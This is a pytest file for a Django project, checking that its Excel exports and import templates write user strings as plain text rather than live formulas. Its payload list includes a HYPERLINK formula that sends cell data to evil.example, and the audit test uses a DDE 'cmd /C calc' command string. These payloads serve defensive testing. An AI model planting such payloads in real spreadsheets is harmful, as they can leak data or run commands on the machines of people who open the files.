"""Exports write every user string as text: a name like =HYPERLINK(…) never becomes a live formula."""

import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from gongjian.audit.models import Action
from gongjian.audit.recording import record
from gongjian.exchange.models import Need
from gongjian.lib.excel import read_rows, sheets_bytes, workbook_bytes
from gongjian.orgs.models import Organization

# OWASP's list of what a spreadsheet runs as a formula: =, +, -, @, tab and carriage return.
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+1", "-2", "@SUM(1)", "\t=1+1", "\r=1+1", "=1+1"]


def formula_cells(content: bytes) -> list[str]:
    """Coordinates of every cell a spreadsheet program would calculate, in any sheet."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >/]", archive.read(name)):
                found.append(name)
    workbook = load_workbook(io.BytesIO(content))
    found += [
        f"{ws.title}!{cell.coordinate}" for ws in workbook.worksheets for row in ws.iter_rows() for cell in row if cell.data_type == "f"
    ]
    return found


def cells(content: bytes, sheet=0) -> list[list]:
    return [[cell.value for cell in row] for row in load_workbook(io.BytesIO(content)).worksheets[sheet].iter_rows()]


def test_it_writes_formula_like_strings_as_the_text_typed():
    content = workbook_bytes(["名称", "备注"], [[payload, payload] for payload in PAYLOADS], notes=PAYLOADS)
    assert formula_cells(content) == []
    workbook = load_workbook(io.BytesIO(content))
    values = [(cell.value, cell.data_type) for row in workbook.worksheets[0].iter_rows(min_row=2) for cell in row[:1]]
    assert values == [(payload, "s") for payload in PAYLOADS]
    assert [row[0] for row in cells(content, sheet=1)] == PAYLOADS
    # Excel keeps such a cell text even when someone edits it later.
    assert all(row[0].quotePrefix for row in workbook.worksheets[0].iter_rows(min_row=2))


def test_it_stores_the_payload_as_an_inline_string_in_the_xml():
    content = workbook_bytes(["名称"], [['=HYPERLINK("http://evil","x")']])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert re.search(r'<c r="A2"[^>]* t="inlineStr"><is><t>=HYPERLINK\("http://evil","x"\)</t></is></c>', sheet.replace("&quot;", '"'))
    assert "<f>" not in sheet


def test_it_keeps_error_codes_and_plain_values_as_they_are():
    content = workbook_bytes(["a", "b", "c", "d"], [["#N/A", 3, "普通文本", None], ["=", 1.5, "a=b", "-"]])
    workbook = load_workbook(io.BytesIO(content))
    rows = [[(cell.value, cell.data_type) for cell in row] for row in workbook.worksheets[0].iter_rows(min_row=2)]
    assert rows[0][:3] == [("#N/A", "s"), (3, "n"), ("普通文本", "s")]
    assert rows[1] == [("=", "s"), (1.5, "n"), ("a=b", "s"), ("-", "s")]
    assert not workbook.worksheets[0]["C2"].quotePrefix
    assert read_rows(io.BytesIO(content))[1] == [(2, ["#N/A", 3, "普通文本", None]), (3, ["=", 1.5, "a=b", "-"])]


def test_it_protects_every_sheet_of_a_multi_sheet_workbook():
    content = sheets_bytes([("概况", ["=标题"], [["@SUM(1)", 2]], ["=说明"]), ("明细", ["名称"], [["+1+1"]], [])])
    assert formula_cells(content) == []
    assert cells(content, 0) == [["=标题", None], ["@SUM(1)", 2], [None, None], ["=说明", None]]
    assert cells(content, 1) == [["名称"], ["+1+1"]]


def test_the_import_template_keeps_formula_like_text_as_text(world, monkeypatch):
    from gongjian.imports.importers import OrganizationImporter

    monkeypatch.setattr(OrganizationImporter, "notes", ("=1+1",))
    content = OrganizationImporter(world.alliance_admin).template()
    assert formula_cells(content) == []
    assert ["=1+1"] in [row[:1] for row in cells(content, 1)]


# --- Through the real export views ------------------------------------------------------------


@pytest.fixture
def evil_org(world):
    return Organization.objects.create(name=PAYLOADS[0], short_name="@SUM(1)", sector="enterprise", kind="branch", region=world.street)


def test_the_directory_export_has_no_formula(world, client_for, evil_org):
    response = client_for(world.alliance_admin).get(reverse("orgs:organization_list") + "?export=xlsx")
    assert response.status_code == 200
    assert formula_cells(response.content) == []
    assert [PAYLOADS[0], "@SUM(1)"] in [row[:2] for row in cells(response.content)]


def test_the_needs_hall_export_has_no_formula(world, client_for, evil_org, design):
    need = Need.objects.create(organization=evil_org, title="+1+1", category=design, region=world.street, description="-2")
    need.publish()
    response = client_for(world.outsider).get(reverse("exchange:hall") + "?export=xlsx")
    assert response.status_code == 200
    assert formula_cells(response.content) == []
    row = cells(response.content)[1]
    assert (row[0], row[1], row[-1]) == ("+1+1", PAYLOADS[0], "-2")


def test_the_audit_export_has_no_formula(admins, client_for, evil_org):
    record(Action.UPDATE, evil_org, actor_name="=cmd|' /C calc'!A0", changes={"name": ["旧名称", PAYLOADS[0]]})
    response = client_for(admins.audit).get(reverse("audit:record_list") + "?export=xlsx&action=update")
    assert response.status_code == 200
    assert formula_cells(response.content) == []
    rows = cells(response.content)
    assert rows[1][2] == "=cmd|' /C calc'!A0" and rows[1][7] == PAYLOADS[0]
